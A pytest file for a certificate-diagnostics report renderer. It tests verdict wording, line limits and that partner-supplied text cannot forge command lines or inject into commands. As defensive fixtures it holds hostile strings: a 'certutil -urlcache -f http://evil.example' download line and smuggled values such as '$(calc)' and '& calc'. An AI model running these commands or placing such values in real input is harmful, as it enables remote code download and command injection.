"""The short form: at most 15 lines a target, the worst first, and nothing that a partner can forge."""

from __future__ import annotations

import re
from datetime import datetime, timedelta
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from probe.escaping import in_ascii
from probe.judgement.model import Actor, Outcome, Severity
from probe.report import commands, html, summary
from probe.report.document import FindingEntry, JudgementEntry, RemedyEntry, ResultDocument, TargetEntry
from probe.report.formats import nagios, text
from probe.report.layout import PLAIN, Style
from tests.report.conftest import HOSTILE, NOW, element, endpoint, judged, target

Documents = tuple[ResultDocument, ...]


def test_a_limit_is_called_a_limit_wherever_it_is_counted(
    named: dict[str, ResultDocument], now: datetime
) -> None:
    """Of what would succeed nobody is told that it would fail: not in a row, a count or beside others."""
    crossed = expiring(Severity.FAILURE, 200)
    twice = replace(crossed, endpoints=crossed.endpoints * 2)
    rows = text.render([crossed, named["fabrikam"], named["adatum"]]).splitlines()
    assert [row.partition("  ")[0] for row in rows[:3]] == ["would fail", "below limit", "would succeed"]
    assert rows[-1] == "3 targets: 1 would fail; 1 would succeed, below your limit; 1 would succeed"
    assert "other endpoints, addresses or callers: 2 would succeed, below" in text.render([twice])
    status = nagios.render([crossed, named["adatum"]], now=now).splitlines()[0]
    assert "2 targets: 1 would succeed, below your limit, 1 would succeed" in status
    assert "would fail, or below your limit" in html.render([crossed, named["adatum"]], now=now)
    assert "below your limit" not in html.render([named["fabrikam"], named["adatum"]], now=now)


def test_a_narrow_terminal_names_every_partner_whole(documents: Documents) -> None:
    """Two letters of a reason help nobody; half a name names another partner."""
    shown = text.render(documents[:4], Style(width=40)).splitlines()
    assert shown[:4] == [
        "would fail     fabrikam.example",
        "would fail     tailspin.example",
        "with warnings  contoso.example",
        "would succeed  adatum.example",
    ]
    wide = text.render(documents[:4], Style(width=100)).splitlines()
    assert wide[0].startswith("would fail     fabrikam.example  The chain ends in ")
    long = replace(
        documents[2], target=TargetEntry("a-subsidiary.woodgrove-holding-international.example", None)
    )
    assert text.render([long], Style(width=40)).startswith(f"{long.target.input}: WOULD FAIL\n")


def test_what_the_other_endpoints_do_is_said_at_every_width(named: dict[str, ResultDocument]) -> None:
    for width in (40, 80, 200):
        words = " ".join(text.render([named["tailspin"]], Style(width=width)).split())
        assert "EWS of mail.tailspin.example at 192.0.2.10, for exchange-se" in words
        assert re.search("other endpoints, addresses or callers: [12] would fail", words)


@pytest.mark.parametrize("verbose", [False, True])
def test_only_problems_of_one_partner_that_has_none_is_the_count(
    named: dict[str, ResultDocument], *, verbose: bool
) -> None:
    style = Style(only_problems=True, verbose=verbose)
    assert text.render([named["adatum"]], style) == "1 target: 1 would succeed\n"
    assert "fabrikam.example: WOULD FAIL" in text.render([named["fabrikam"]], style)


@pytest.mark.parametrize("width", [80, 100, 200])
def test_a_target_takes_at_most_15_lines(documents: Documents, width: int) -> None:
    for document in documents:
        lines = text.render([document], Style(width=width)).splitlines()
        assert 1 < len(lines) <= 15, document.target.input


def test_a_failing_partner_says_verdict_log_cause_fix_and_who(named: dict[str, ResultDocument]) -> None:
    lines = text.render([named["fabrikam"]]).splitlines()
    assert lines[0] == "fabrikam.example: WOULD FAIL"
    assert lines[2] == "  SslPolicyErrors: RemoteCertificateChainErrors (UntrustedRoot)"
    assert lines[3].startswith("  log: System.Net.WebException: ")
    assert lines[4].startswith("  cause: The chain ends in CN=Fabrikam Root")
    assert [line for line in lines if line.startswith("  fix, by you, the calling side (proved): Import")]
    assert [line for line in lines if line.startswith("    │ Import-Certificate")]
    assert "  1 other change may mend it: see -v" in lines


def test_a_healthy_partner_says_until_when(named: dict[str, ResultDocument]) -> None:
    lines = text.render([named["adatum"]]).splitlines()
    assert lines[0] == "adatum.example: WOULD SUCCEED"
    assert lines[2].startswith("  the certificate verdict holds until 2027-06-11 06:00:00 UTC: ")
    assert len(lines) <= 4


def test_several_targets_are_a_line_each_then_the_failing_then_counts(documents: Documents) -> None:
    lines = text.render(documents).splitlines()
    listed = [line.split("  ")[0] for line in lines[: len(documents)]]
    assert listed == sorted(listed, key=["would fail", "cannot tell", "with warnings", "would succeed"].index)
    assert lines[-1] == (
        "8 targets: 3 would fail; 3 cannot tell; 1 would succeed, with warnings; 1 would succeed"
    )
    told = [line for line in lines[len(documents) :] if line.endswith((": WOULD FAIL", ": CANNOT TELL"))]
    assert len(told) == 6


def test_a_list_of_failures_is_bounded(named: dict[str, ResultDocument]) -> None:
    report = text.render([named["fabrikam"]] * 23)
    assert report.count(": WOULD FAIL\n") == 20
    assert "… and 3 more, listed above" in report


def test_only_problems_leaves_out_what_would_succeed_and_counts_it(documents: Documents) -> None:
    report = text.render(documents, Style(only_problems=True))
    assert "adatum.example" not in report
    assert "1 would succeed" in report


@pytest.mark.parametrize("width", [40, 72, 200])
def test_lines_follow_the_width_but_for_what_is_copied(documents: Documents, width: int) -> None:
    for line in text.render(documents, Style(width=width)).splitlines():
        if re.match(r"\S.*: [A-Z ,]+$", line):
            continue  # a heading, whose name is whole
        copied = line.startswith(("  log: ", "    │ ", "  SslPolicyErrors")) or " " not in line.strip()
        assert len(line) <= width or copied or len(line.strip().split()[-1]) > width // 2, line


def expiring(severity: Severity, days: int) -> ResultDocument:
    """A partner whose certificate is nearer to its end than the user's limit, and nothing else."""
    host = "mail.contoso.example"
    finding = FindingEntry(summary.EXPIRES_SOON, severity, f"it expires in {days} days", (), ())
    judgement = judged(severity.value, host, (element(f"CN={host}", "presented", (-10, days)),), (finding,))
    return target("contoso.example", severity.value, endpoint(host, (), judgement))


@pytest.mark.parametrize(
    ("severity", "days", "words"),
    [
        pytest.param(Severity.FAILURE, 299, "expires in 299 days", id="critical"),
        pytest.param(Severity.WARNING, 1, "expires in 1 day", id="warning"),
        pytest.param(Severity.FAILURE, -2, "expired 2 days ago", id="expired-and-accepted"),
    ],
)
def test_a_threshold_is_no_prediction(severity: Severity, days: int, words: str) -> None:
    document = expiring(severity, days)
    said = f"would succeed; {words}, below your limit"
    assert summary.verdict(document) == said
    assert text.render([document]).startswith(f"contoso.example: WOULD SUCCEED; {words}, below your limit\n")
    assert "WOULD FAIL" not in text.render([document], Style(verbose=True))


def test_a_threshold_beside_a_failure_is_a_failure() -> None:
    """Two faults at once: what would fail is not called a success because something also expires."""
    document = expiring(Severity.FAILURE, 5)
    (first, _) = document.endpoints[0].judgements
    broken = FindingEntry("name-mismatch", Severity.FAILURE, "the name is another", (), ())
    worse = replace(first, findings=(*first.findings, broken))
    both = replace(document, endpoints=(replace(document.endpoints[0], judgements=(first, worse)),))
    assert summary.verdict(both) == "would fail"


FORGERIES = [
    pytest.param("CN=x " + "y" * 90 + " │ certutil -urlcache -f http://evil", id="wrapped-to-the-gutter"),
    pytest.param("CN=x " + "y" * 90 + " | certutil -urlcache -f http://evil", id="in-ascii"),
    pytest.param("│ certutil -urlcache", id="at-the-beginning"),
    pytest.param(HOSTILE, id="hostile"),
]


@pytest.mark.parametrize("forged", FORGERIES)
@pytest.mark.parametrize("style", [PLAIN, Style(verbose=True), Style(width=40)], ids=["short", "story", "40"])
def test_the_gutter_of_commands_is_only_for_commands(
    named: dict[str, ResultDocument], forged: str, style: Style
) -> None:
    remedy = RemedyEntry(Actor.CALLER, forged, "certutil -addstore Root x.cer", proved=True)
    finding = FindingEntry("chain-untrusted-root", Severity.FAILURE, forged, (forged,), (remedy,))
    document = named["fabrikam"]
    judgement = replace(document.endpoints[0].judgements[0], findings=(finding,))
    changed = replace(document, endpoints=(replace(document.endpoints[0], judgements=(judgement,)),))
    for report in (text.render([changed], style), in_ascii(text.render([changed], style))):
        commands_shown = [line.strip() for line in report.splitlines() if line.strip()[:1] in ("│", "|")]
        assert {line[2:] for line in commands_shown} == {"certutil -addstore Root x.cer"}


def _with(value: Any, forged: str) -> Any:
    """The same builtins with a forgery wherever a partner's text stood."""
    if isinstance(value, dict):
        return {_with(key, forged): _with(item, forged) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [_with(item, forged) for item in value]
    return value.replace(HOSTILE, forged) if isinstance(value, str) else value


@pytest.mark.parametrize("pushed", range(0, 100, 3))
@pytest.mark.parametrize("sign", ["│", "|", "┊"])
@pytest.mark.parametrize(
    "style",
    [Style(verbose=True, explain=True, log_lines=True), PLAIN, Style(width=40)],
    ids=["story", "short", "40"],
)
def test_no_line_as_a_terminal_breaks_it_is_a_forged_command(
    named: dict[str, ResultDocument], style: Style, sign: str, pushed: int
) -> None:
    """Reason phrases, headers, names, faults and details: each may be long enough to begin a line itself."""
    forged = f"ok{'y' * pushed}    {sign} certutil -urlcache -f http://evil.example/x"
    hostile = _with(msgspec.to_builtins(named["hostile"]), forged)
    for endpoint_of_it in hostile["endpoints"]:  # commands are made of validated values, elsewhere
        for judgement in endpoint_of_it["judgements"]:
            for finding in judgement["findings"]:
                for remedy in finding["remedies"]:
                    remedy["command"] = "certutil -addstore Root x.cer"
    document = msgspec.convert(hostile, ResultDocument)
    for report in (text.render([document], style), in_ascii(text.render([document], style))):
        shown = [
            line[at : at + style.width]
            for line in report.splitlines()
            for at in range(0, len(line), style.width)
        ]
        commands_shown = [line.strip() for line in shown if re.match(r" *[│|](?: |\Z)", line)]
        assert {line[2:] for line in commands_shown} <= {"certutil -addstore Root x.cer"}


def test_the_report_can_do_without_unicode(documents: Documents) -> None:
    art = set(in_ascii(text.render(documents[:4], Style(verbose=True)))) - set(map(chr, range(128)))
    assert art <= {"✓"}


def place(**values: str) -> commands.CommandTarget:
    return commands.place_of("https://mail.contoso.com:8443/ews/exchange.asmx", **values)


@pytest.mark.parametrize(
    ("url", "fit"),
    [
        pytest.param("https://mail.contoso.com/ews/exchange.asmx", True, id="usual"),
        pytest.param("https://mail.contoso.com:8443/", True, id="port"),
        pytest.param("https://[::1]:443/ews", True, id="address"),
        pytest.param("http://mail.contoso.com/", False, id="clear"),
        pytest.param("https://mail.contoso.com/$(calc)", False, id="substitution"),
        pytest.param("https://mail.contoso.com/a?x=1&calc", False, id="query"),
        pytest.param("https://user@mail.contoso.com/", False, id="user"),
        pytest.param("https://mail.contoso.com/ & calc", False, id="second-command"),
        pytest.param("https://a`b/", False, id="host"),
        pytest.param("mail.contoso.com", False, id="no-url"),
    ],
)
def test_a_url_is_fit_for_a_command(url: str, *, fit: bool) -> None:
    assert commands.is_url(url) is fit


@pytest.mark.parametrize(
    ("command", "where", "expected"),
    [
        pytest.param(
            "Test-NetConnection HOST -Port 443", place(), "Test-NetConnection mail.contoso.com -Port 8443",
            id="host-and-port",
        ),
        pytest.param("Resolve-DnsName NAME", place(), "Resolve-DnsName mail.contoso.com", id="name"),
        pytest.param(
            "Set-OrganizationRelationship RELATIONSHIP -x", place(relationship="Bob's"),
            "Set-OrganizationRelationship 'Bob''s' -x", id="relationship-is-quoted",
        ),
        pytest.param("x RELATIONSHIP", place(), "x RELATIONSHIP", id="unknown-stays"),
        pytest.param("x PARTNER", place(domain="$(calc)"), "x PARTNER", id="no-domain"),
        pytest.param("x PARTNER", place(domain="--proxy=evil"), "x PARTNER", id="an-option"),
        pytest.param("x PARTNER", place(domain="x.test & calc &"), "x PARTNER", id="a-second-command"),
        pytest.param("x RELATIONSHIP", place(relationship="a\nb"), "x RELATIONSHIP", id="two-lines"),
        pytest.param("x RELATIONSHIP", place(relationship="‘; calc"), "x '‘‘; calc'", id="typographic-quote"),
        pytest.param("x HOST", commands.place_of("https://[::1]/"), "x ::1", id="address"),
        pytest.param("x HOST", commands.place_of("https://a`b/"), "x HOST", id="hostile-host"),
        pytest.param("x HOST", commands.place_of("https://[::1/"), "x HOST", id="broken-url"),
    ],
)  # fmt: skip
def test_placeholders_take_validated_values(
    command: str, where: commands.CommandTarget, expected: str
) -> None:
    assert commands.filled(command, where) == expected


def test_what_is_off_here_is_not_called_a_failure(named: dict[str, ResultDocument]) -> None:
    off = replace(named["fabrikam"], not_used="the organization relationship Fabrikam is disabled")
    lines = text.render([off]).splitlines()
    assert lines[0] == "fabrikam.example: NOT USED"
    assert lines[1].startswith("  the organization relationship Fabrikam is disabled")
    assert lines[3].startswith("  were it used: would fail: The chain ends in")
    assert len(lines) <= 6
    assert summary.worst_outcome([off, named["contoso"]]) is Outcome.WARNING
    assert summary.worst_outcome([off]) is Outcome.SUCCESS


def test_the_flip_is_counted_from_the_judgement() -> None:
    judgement: JudgementEntry = expiring(Severity.WARNING, 9).endpoints[0].judgements[0]
    later = replace(judgement, at=NOW + timedelta(days=3))
    assert summary.judgement_verdict(later) == "would succeed; expires in 6 days, below your limit"
